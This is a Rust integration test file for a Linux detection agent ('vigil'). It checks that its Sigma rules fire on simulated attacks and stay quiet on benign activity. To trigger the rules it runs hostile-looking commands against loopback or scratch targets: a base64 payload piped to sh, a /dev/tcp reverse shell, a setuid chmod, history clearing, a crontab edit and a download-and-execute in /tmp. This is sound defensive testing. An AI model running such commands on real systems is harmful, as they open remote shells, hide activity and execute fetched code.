//! Sigma rules on live events: real commands, run on this host, fire the
//! rules the project wrote (agent/tests/sigma-rules) through the real
//! kernel programs and the daemon; a benign set fires none; a bad reload
//! keeps the running set; `vigil rules check` lists what it cannot run.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::Value;
use vigil_integration::*;

const B64_SHELL: &str = "4572e894-44ed-44c0-9270-a3557fe37aa9";
const B64_MARKER: &str = "6ef704ce-5338-4d5d-a5f3-713b6a027d07";
const DEVTCP: &str = "d34b1e1d-7449-446a-91dc-5ef59e5c914e";
const SHELL_CONN: &str = "c4e08fc4-eebc-4cf8-abe6-76640464db80";
const SETUID: &str = "0d7abd00-4dbd-448a-8e04-86238412a05e";
const HISTORY: &str = "46f2b9ae-9bf5-4838-8db2-5a76d64bc3fe";
const CRONTAB: &str = "1c2fbe0a-a2f2-4ac8-a492-94c3d23f280f";
const DOWNLOAD: &str = "498a28bc-141b-4bc2-bb49-df92bda0e647";
const TMP_EXEC: &str = "5ffeec52-35d1-4ed4-851e-ad09e76808b2";
const TMP_WRITE: &str = "3046d9ed-fb7a-410a-a98c-90c4ea2609a2";

fn rules_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../agent/tests/sigma-rules")
}

fn config(dirs: &[&Path], extra: &str) -> String {
    let list: Vec<String> = dirs
        .iter()
        .map(|d| format!("\"{}\"", d.display()))
        .collect();
    format!(
        "{TEST_CONFIG}{extra}detect:\n  sigma:\n    dirs: [{}]\n",
        list.join(", ")
    )
}

fn sh(script: &str) {
    let out = Command::new("bash")
        .args(["-c", script])
        .output()
        .expect("bash");
    assert!(
        out.status.success(),
        "`{script}` failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn rule_alert<'a>(records: &'a [Value], rule: &str) -> Option<&'a Value> {
    records.iter().find(|r| {
        r["kind"] == "alert" && r["detector"] == "sigma" && r["evidence"]["rule_id"] == rule
    })
}

fn wait_rule(agent: &mut Agent, rule: &str, pred: impl Fn(&Value) -> bool) -> Value {
    agent.wait_for("alert", |r| {
        r["detector"] == "sigma" && r["evidence"]["rule_id"] == rule && pred(r)
    })
}

fn field<'a>(alert: &'a Value, name: &str) -> &'a str {
    alert["evidence"]["fields"][name].as_str().unwrap_or("")
}

/// Serves `body` to every GET on a loopback port until dropped.
struct HttpServer {
    port: u16,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl HttpServer {
    fn start(body: &'static [u8]) -> HttpServer {
        let l = TcpListener::bind("127.0.0.1:0").expect("bind");
        l.set_nonblocking(true).expect("nonblocking");
        let port = l.local_addr().expect("addr").port();
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let stop2 = stop.clone();
        let thread = std::thread::spawn(move || {
            while !stop2.load(std::sync::atomic::Ordering::Relaxed) {
                match l.accept() {
                    Ok((mut s, _)) => {
                        let _ = s.set_nonblocking(false);
                        let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
                        let mut req = [0u8; 2048];
                        let _ = s.read(&mut req);
                        let head = format!(
                            "HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\n\r\n",
                            body.len()
                        );
                        let _ = s.write_all(head.as_bytes());
                        let _ = s.write_all(body);
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(20)),
                }
            }
        });
        HttpServer {
            port,
            stop,
            thread: Some(thread),
        }
    }
}

impl Drop for HttpServer {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// Root's crontab as it was, put back on drop (even when the test fails).
struct CrontabGuard {
    saved: Option<Vec<u8>>,
    dir: PathBuf,
}

impl CrontabGuard {
    fn save(dir: &Path) -> CrontabGuard {
        let out = Command::new("crontab")
            .arg("-l")
            .output()
            .expect("crontab -l");
        CrontabGuard {
            saved: out.status.success().then_some(out.stdout),
            dir: dir.to_path_buf(),
        }
    }
}

impl Drop for CrontabGuard {
    fn drop(&mut self) {
        match &self.saved {
            Some(text) => {
                let f = self.dir.join("crontab.saved");
                if std::fs::write(&f, text).is_ok() {
                    let _ = Command::new("crontab").arg(&f).status();
                }
            }
            None => {
                let _ = Command::new("crontab")
                    .arg("-r")
                    .stderr(Stdio::null())
                    .status();
            }
        }
    }
}

fn base64(s: &str) -> String {
    let out = Command::new("base64")
        .arg("-w0")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            c.stdin.take().expect("stdin").write_all(s.as_bytes())?;
            c.wait_with_output()
        })
        .expect("base64");
    String::from_utf8(out.stdout).expect("utf8")
}

#[test]
fn real_attack_commands_fire_their_rules_and_benign_ones_none() {
    require_root();
    let scratch = TempDir::new("sigma-scratch");
    let mut agent = Agent::start_with(&config(&[&rules_dir()], ""));
    let start = agent.wait_for("agent_start", |_| true);
    assert_eq!(start["sigma_rules"]["loaded"], 11, "{start}");
    assert_eq!(start["sigma_rules"]["errors"], 0, "{start}");

    // 1. A base64-decoded payload piped to a shell.
    let payload = base64("echo vigil-sigma-payload");
    sh(&format!("echo {payload} | base64 -d | sh"));
    let a = wait_rule(&mut agent, B64_SHELL, |_| true);
    assert!(field(&a, "ParentCommandLine").contains(&payload), "{a}");
    assert!(
        a["techniques"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t["id"] == "T1059.004"),
        "{a}"
    );
    assert_eq!(a["severity"], "high");
    assert_eq!(a["evidence"]["author"], "Vigil developers");
    wait_rule(&mut agent, B64_MARKER, |_| true);

    // 2. A reverse shell one-liner to a listener the test owns.
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().unwrap().port();
    let mut shell = Command::new("bash")
        .args(["-c", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("reverse shell");
    let (mut conn, _) = listener.accept().expect("the shell connects back");
    conn.write_all(b"exit\n").expect("send exit");
    let _ = shell.wait();
    let a = wait_rule(&mut agent, DEVTCP, |_| true);
    assert!(
        field(&a, "CommandLine").contains(&format!("/dev/tcp/127.0.0.1/{port}")),
        "{a}"
    );
    let c = wait_rule(&mut agent, SHELL_CONN, |r| {
        r["evidence"]["fields"]["DestinationPort"] == port
    });
    assert_eq!(field(&c, "DestinationIp"), "127.0.0.1", "{c}");
    assert_eq!(field(&c, "Initiated"), "true", "{c}");

    // 3. chmod +s on a scratch file.
    let target = scratch.0.join("suid-me");
    std::fs::write(&target, b"#!/bin/sh\n").unwrap();
    sh(&format!("chmod u+s {}", target.display()));
    // (No CurrentDirectory check here: chmod may be gone before its cwd
    // is read; logon_id_user_and_directory_come_from_the_exec checks it.)
    wait_rule(&mut agent, SETUID, |r| {
        field(r, "CommandLine").contains(&target.display().to_string())
    });

    // 4. Clearing shell history (a scratch HOME, never root's own history).
    let home = scratch.0.join("home");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join(".bash_history"), b"ls\n").unwrap();
    sh(&format!(
        "HOME={h} bash -c 'history -c; rm -f {h}/.bash_history'",
        h = home.display()
    ));
    wait_rule(&mut agent, HISTORY, |r| {
        field(r, "CommandLine").contains(&home.display().to_string())
    });

    // 5. A crontab edit: root's crontab is saved first and put back after.
    {
        let _guard = CrontabGuard::save(&scratch.0);
        let jobs = scratch.0.join("jobs");
        std::fs::write(&jobs, b"# vigil sigma test: no jobs\n").unwrap();
        sh(&format!("crontab {}", jobs.display()));
        sh("crontab -l >/dev/null");
        wait_rule(&mut agent, CRONTAB, |r| {
            field(r, "CommandLine").contains(&jobs.display().to_string())
        });
    }

    // 6. Download into /tmp with curl and wget from a loopback server, then exec.
    let server = HttpServer::start(b"#!/bin/sh\necho vigil-downloaded\n");
    let dl = PathBuf::from(format!("/tmp/vigil-sigma-dl-{}", std::process::id()));
    let dl2 = PathBuf::from(format!("/tmp/vigil-sigma-dl2-{}", std::process::id()));
    let url = format!("http://127.0.0.1:{}/payload", server.port);
    let _cleanup = DeleteOnDrop(vec![dl.clone(), dl2.clone()]);
    sh(&format!("curl -s -o {} {url}", dl.display()));
    sh(&format!("wget -q -O {} {url}", dl2.display()));
    sh(&format!("chmod 755 {0} && {0}", dl.display()));
    wait_rule(&mut agent, DOWNLOAD, |r| {
        field(r, "Image").ends_with("/curl")
    });
    wait_rule(&mut agent, DOWNLOAD, |r| {
        field(r, "Image").ends_with("/wget")
    });
    wait_rule(&mut agent, TMP_WRITE, |r| {
        field(r, "TargetFilename") == dl.display().to_string()
    });
    wait_rule(&mut agent, TMP_EXEC, |r| {
        field(r, "Image") == dl.display().to_string()
    });
    drop(server);

    // 7. The benign set: package queries, ls, a tar backup. Every command
    // runs under a shell whose command line carries a marker, so an alert
    // on any of them would name it; a sentinel attack afterwards proves the
    // agent has processed everything before it.
    let marker = format!("vigil-benign-{}", std::process::id());
    let data = scratch.0.join("data");
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(data.join("notes.txt"), b"benign\n").unwrap();
    // (The marker comes first: argv is captured up to 256 bytes.)
    sh(&format!(
        ": {marker}; dpkg -l >/dev/null; dpkg-query -W bash >/dev/null; ls -la /etc >/dev/null; \
         tar czf {s}/backup.tgz -C {s} data; tar tzf {s}/backup.tgz >/dev/null",
        s = scratch.0.display()
    ));
    // (A new executable: an alert for a (rule, executable) seen before
    // would be folded into the first, not written again.)
    let sentinel = scratch.0.join("sentinel");
    std::fs::copy("/usr/bin/true", &sentinel).unwrap();
    sh(&sentinel.display().to_string());
    wait_rule(&mut agent, TMP_EXEC, |r| {
        field(r, "Image") == sentinel.display().to_string()
    });
    let records = agent.records();
    assert!(
        records.iter().any(|r| r["kind"] == "process_exec"
            && r["exe"].as_str().is_some_and(|e| e.ends_with("/tar"))
            && r["parent_cmdline"]
                .as_str()
                .is_some_and(|c| c.contains(&marker))),
        "the agent never saw the benign tar"
    );
    let benign: Vec<&Value> = records
        .iter()
        .filter(|r| {
            r["kind"] == "alert" && r["detector"] == "sigma" && r.to_string().contains(&marker)
        })
        .collect();
    assert!(benign.is_empty(), "benign commands fired: {benign:#?}");
    assert!(rule_alert(&records, SETUID).is_some());
    // Every alert so far came from the rules, each once per executable.
    let sigma: Vec<&Value> = records
        .iter()
        .filter(|r| r["kind"] == "alert" && r["detector"] == "sigma")
        .collect();
    assert!(sigma.iter().all(|a| a["evidence"]["license"].is_string()));
    assert!(agent.stop());
}

struct DeleteOnDrop(Vec<PathBuf>);

impl Drop for DeleteOnDrop {
    fn drop(&mut self) {
        for p in &self.0 {
            let _ = std::fs::remove_file(p);
        }
    }
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .expect("free port")
}

fn metric(port: u16, line_start: &str) -> Option<f64> {
    let mut s = TcpStream::connect(("127.0.0.1", port)).ok()?;
    s.write_all(b"GET /metrics HTTP/1.0\r\nHost: x\r\n\r\n")
        .ok()?;
    let r = BufReader::new(s);
    r.lines()
        .map_while(Result::ok)
        .find(|l| l.starts_with(line_start))
        .and_then(|l| l.rsplit(' ').next().and_then(|v| v.parse().ok()))
}

#[test]
fn sighup_reload_keeps_the_last_good_set_and_takes_a_fixed_one() {
    require_root();
    let rules = TempDir::new("sigma-rules");
    std::fs::copy(
        rules_dir().join("chmod_setuid.yml"),
        rules.0.join("chmod_setuid.yml"),
    )
    .unwrap();
    let port = free_port();
    let metrics = format!("metrics:\n  listen: \"127.0.0.1:{port}\"\n");
    let cfg = config(&[&rules.0], "").replace("metrics:\n  listen: \"\"\n", &metrics);
    let mut agent = Agent::start_with(&cfg);
    let start = agent.wait_for("agent_start", |_| true);
    assert_eq!(start["sigma_rules"]["loaded"], 1, "{start}");
    assert_eq!(
        metric(port, "vigil_sigma_rules{state=\"loaded\"}"),
        Some(1.0)
    );
    let scratch = TempDir::new("sigma-reload");
    let f = scratch.0.join("f");
    std::fs::write(&f, b"x").unwrap();

    // A bad file: the reload is refused, and the running rule still fires.
    std::fs::write(
        rules.0.join("broken.yml"),
        b"title: x\ndetection: [unclosed\n",
    )
    .unwrap();
    let hup = |agent: &Agent| {
        // SAFETY: kill(2) on our own child's pid.
        unsafe { libc::kill(agent.pid().expect("running") as i32, libc::SIGHUP) };
    };
    hup(&agent);
    let deadline = std::time::Instant::now() + PATIENCE;
    while !agent.stderr().contains("Sigma rule reload refused") {
        assert!(
            std::time::Instant::now() < deadline,
            "no refusal:\n{}",
            agent.stderr()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(agent.stderr().contains("broken.yml"), "{}", agent.stderr());
    sh(&format!("chmod u+s {}", f.display()));
    wait_rule(&mut agent, SETUID, |r| {
        field(r, "CommandLine").contains(&f.display().to_string())
    });
    assert_eq!(
        metric(port, "vigil_sigma_rules{state=\"loaded\"}"),
        Some(1.0)
    );

    // Fixed, with a second rule: the reload takes it.
    std::fs::remove_file(rules.0.join("broken.yml")).unwrap();
    std::fs::copy(
        rules_dir().join("history_clear.yml"),
        rules.0.join("history_clear.yml"),
    )
    .unwrap();
    hup(&agent);
    let deadline = std::time::Instant::now() + PATIENCE;
    while metric(port, "vigil_sigma_rules{state=\"loaded\"}") != Some(2.0) {
        assert!(
            std::time::Instant::now() < deadline,
            "reload not taken:\n{}",
            agent.stderr()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let home = scratch.0.join("home");
    std::fs::create_dir_all(&home).unwrap();
    sh(&format!("rm -f {}/.bash_history", home.display()));
    wait_rule(&mut agent, HISTORY, |r| {
        field(r, "CommandLine").contains(&home.display().to_string())
    });
    assert!(agent.stop());
}

#[test]
fn bad_rules_stop_start_up_with_the_file_named() {
    require_root();
    let dir = TempDir::new("sigma-bad");
    let cfg = dir.0.join("vigil.yaml");
    let check = Path::new(env!("CARGO_MANIFEST_DIR")).join("../agent/tests/sigma-check");
    std::fs::write(
        &cfg,
        format!("state_dir: {}\n{}", dir.0.display(), config(&[&check], "")),
    )
    .unwrap();
    let out = Command::new(vigil_bin())
        .args(["run", "--config"])
        .arg(&cfg)
        .arg("--output")
        .arg(dir.0.join("out.jsonl"))
        .output()
        .expect("vigil run");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "started with bad rules: {err}");
    assert!(
        err.contains("bad Sigma rules") && err.contains("bad_yaml.yml"),
        "{err}"
    );
}

#[test]
fn rules_check_lists_unsupported_rules_with_file_and_line() {
    let check = Path::new(env!("CARGO_MANIFEST_DIR")).join("../agent/tests/sigma-check");
    let out = Command::new(vigil_bin())
        .args(["rules", "check"])
        .arg(&check)
        .output()
        .expect("vigil rules check");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "errors must exit non-zero");
    assert!(stdout.contains("windows.yml:7: unsupported:"), "{stdout}");
    assert!(
        stdout.contains("unknown_field.yml:11: unsupported:"),
        "{stdout}"
    );
    assert!(stderr.contains("bad_modifier.yml:"), "{stderr}");
    assert!(stdout.contains("1 rules loaded"), "{stdout}");
    // The project's rules: all load, exit zero.
    let out = Command::new(vigil_bin())
        .args(["rules", "check"])
        .arg(rules_dir())
        .output()
        .expect("vigil rules check");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout.contains("11 rules loaded (process_creation 9, network_connection 1, file_event 1), 0 unsupported, 0 errors"),
        "{stdout}"
    );
}

/// `LogonId` is the audit login uid the kernel read at exec: a process
/// whose loginuid was set (as a login sets it) fires a rule on it, with
/// `User` by name and `CurrentDirectory` from the exec.
#[test]
fn logon_id_user_and_directory_come_from_the_exec() {
    require_root();
    let rules = TempDir::new("sigma-logon");
    let marker = format!("vigil-logon-{}", std::process::id());
    std::fs::write(
        rules.0.join("logon.yml"),
        format!(
            "title: Login 4321 runs the marker as root in /\n\
             id: 9d0c5d52-7c4e-4e43-8f0e-3b6f3f1f4a21\n\
             author: Vigil developers\n\
             logsource: {{category: process_creation, product: linux}}\n\
             detection:\n\
             \x20   selection:\n\
             \x20       LogonId: 4321\n\
             \x20       User: root\n\
             \x20       CurrentDirectory: /\n\
             \x20       CommandLine|contains: '{marker}'\n\
             \x20   condition: selection\n\
             level: low\n"
        ),
    )
    .unwrap();
    let mut agent = Agent::start_with(&config(&[&rules.0], ""));
    // Writing loginuid needs CAP_AUDIT_CONTROL and an unset value: a fresh
    // shell of ours has it unset. The exec'd shell lives long enough
    // (`sleep`) for its cwd to be read; the marker is its `$0`.
    sh(&format!(
        "cd / && echo 4321 > /proc/self/loginuid && exec bash -c 'sleep 0.5' {marker}"
    ));
    let exec = agent.wait_for("process_exec", |r| {
        r["argv"]
            .as_array()
            .is_some_and(|a| a.iter().any(|x| x == marker.as_str()))
    });
    assert_eq!(exec["auid"], 4321, "{exec}");
    let a = wait_rule(&mut agent, "9d0c5d52-7c4e-4e43-8f0e-3b6f3f1f4a21", |_| true);
    assert_eq!(a["evidence"]["fields"]["LogonId"], 4321, "{a}");
    assert_eq!(field(&a, "User"), "root", "{a}");
    // And an unset login uid is no LogonId at all.
    sh(&format!("exec bash -c 'sleep 0.1' {marker}-unset"));
    let exec = agent.wait_for("process_exec", |r| {
        r["argv"]
            .as_array()
            .is_some_and(|a| a.iter().any(|x| *x == format!("{marker}-unset")))
    });
    assert!(exec.get("auid").is_none(), "{exec}");
    assert!(agent.stop());
}

/// The benign set's `ssh` login: a real password login with a session
/// (OpenSSH client through SSH_ASKPASS, from a peer namespace, to a real
/// sshd with PAM) runs a command and fires none of the rules.
#[test]
fn an_ssh_login_fires_no_rule() {
    require_root();
    let topo = Topology::new("sgs", 232);
    let mut agent = Agent::start_in(
        Some(&topo.h),
        &config(&[&rules_dir()], ""),
        TempDir::new("sigma-ssh"),
    );
    let _sshd = Sshd::start(&topo);
    let scratch = TempDir::new("sigma-askpass");
    // Not under /tmp: a program run from there is what a rule looks for.
    let home = TempDir(PathBuf::from(format!(
        "/run/vigil-sigma-askpass-{}",
        std::process::id()
    )));
    std::fs::create_dir_all(&home.0).unwrap();
    let askpass = home.0.join("askpass");
    std::fs::write(&askpass, format!("#!/bin/sh\necho '{PASSWORD}'\n")).unwrap();
    sh(&format!("chmod 700 {}", askpass.display()));
    let marker = format!("vigil-ssh-{}", std::process::id());
    let out = Command::new("ip")
        .args(["netns", "exec", &topo.peers[1], "ssh"])
        .args([
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "PubkeyAuthentication=no",
            "-o",
            "PreferredAuthentications=password",
            "-o",
            "ConnectTimeout=10",
            "-p",
            "2222",
        ])
        .arg(format!("{USER}@{}", topo.host_ip(2)))
        .arg(format!(": {marker}; ls -la / >/dev/null; id; uname -a"))
        .env("SSH_ASKPASS", &askpass)
        .env("SSH_ASKPASS_REQUIRE", "force")
        .env("DISPLAY", ":0")
        .stdin(Stdio::null())
        .output()
        .expect("ssh");
    assert!(
        out.status.success(),
        "ssh login failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains(USER));
    // The session's commands were seen (their parent is the login shell
    // running the marked command line)...
    agent.wait_for("process_exec", |r| {
        r["exe"].as_str().is_some_and(|e| e.ends_with("/uname"))
            && r["parent_cmdline"]
                .as_str()
                .is_some_and(|c| c.contains(&marker))
    });
    // ...and a sentinel after them has been processed.
    let sentinel = scratch.0.join("sentinel");
    std::fs::copy("/usr/bin/true", &sentinel).unwrap();
    sh(&sentinel.display().to_string());
    wait_rule(&mut agent, TMP_EXEC, |r| {
        field(r, "Image") == sentinel.display().to_string()
    });
    let noisy: Vec<Value> = agent
        .records()
        .into_iter()
        .filter(|r| r["kind"] == "alert" && r["detector"] == "sigma")
        .filter(|r| {
            let s = r.to_string();
            s.contains(&marker) || s.contains("sshd") || s.contains(USER)
        })
        .collect();
    assert!(noisy.is_empty(), "the ssh login fired: {noisy:#?}");
    assert!(agent.stop());
}
